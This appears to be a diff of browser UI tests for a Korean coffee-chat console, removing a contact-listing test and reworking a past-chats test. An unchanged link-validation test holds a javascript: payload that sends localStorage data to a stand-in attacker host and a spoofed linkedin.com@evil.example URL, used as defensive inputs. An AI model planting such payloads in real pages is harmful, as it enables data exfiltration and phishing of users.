@@ -17,23 +17,6 @@ const times = STARTS.map((startsAt, place) => ({
   canConfirm: false,
 }))
 
-test('[OFR-13] the list leads to each, where the contact is', async ({ api, open }) => {
-  api.answers('GET /console/coffeechats', listed())
-  api.answers('GET /console/coffeechats/:id', coffeechat())
-  await open('/coffeechats')
-  const list = page.getByRole('list', { name: '커피챗' })
-  await expect
-    .element(list.getByRole('link'))
-    .toMatchTextContent('노가온프론트엔드 개발자 · 6,300~6,800만 원')
-  await expectAccessible()
-  await list.getByRole('link').click()
-  await expect.element(page.getByRole('heading', { level: 1, name: '노가온' })).toBeVisible()
-  await expect
-    .element(page.getByRole('region', { name: '연락처와 자료' }))
-    .toMatchTextContent('휴대전화 번호010-3123-4567')
-  await expectAccessible()
-})
-
 test('[VAL-8] links open elsewhere, and what is no web address is text', async ({ api, open }) => {
   const script = 'javascript:fetch("//evil.example/"+localStorage.length)'
   const pretending = 'https://linkedin.com@evil.example/in/gaon'
@@ -193,13 +176,13 @@ describe('[OFR-19] where the two meet', () => {
       minutes: 30,
       proposedBy: 'company',
     } as const
-    const chat = coffeechat({ status: 'DONE', confirmedTime, place: CALL })
-    api.answers('GET /console/coffeechats', { items: [chat], nextCursor: null })
+    const chat = coffeechat({ status: 'DONE', todo: null, confirmedTime, place: CALL })
+    api.answers('GET /console/coffeechats', listed({ past: [chat] }))
     api.answers('GET /console/coffeechats/:id', chat)
     await open('/coffeechats')
-    const row = page.getByRole('list', { name: '커피챗' }).getByRole('link')
-    await expect.element(row).toMatchTextContent('11월 15일 (일) 오전 11:00화상 · meet.example.com')
-    await row.click()
+    const past = page.getByRole('list', { name: '지난 커피챗' })
+    await expect.element(past).toMatchTextContent('11월 15일 (일) 오전 11:00화상 · meet.example.com')
+    await past.getByRole('link').first().click()
     await expect.element(placed).toBeVisible()
     await expect.element(placed.getByRole('button')).not.toBeInTheDocument()
   })
